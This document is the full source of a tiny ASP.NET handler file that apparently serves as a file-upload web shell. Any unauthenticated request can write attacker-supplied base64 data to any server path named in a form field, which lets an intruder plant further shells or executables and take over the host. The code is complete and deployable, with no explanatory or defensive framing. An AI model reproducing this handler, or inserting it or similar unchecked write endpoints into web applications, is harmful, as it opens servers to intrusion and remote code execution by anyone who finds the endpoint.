<%@ WebHandler Language="C#" Class="Put" %>
using System;
using System.IO;
using System.Web;
public class Put : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context)
    {
        File.WriteAllBytes(context.Request.Form["to"], Convert.FromBase64String(context.Request.Form["data"]));
        context.Response.Write("ok");
    }
}
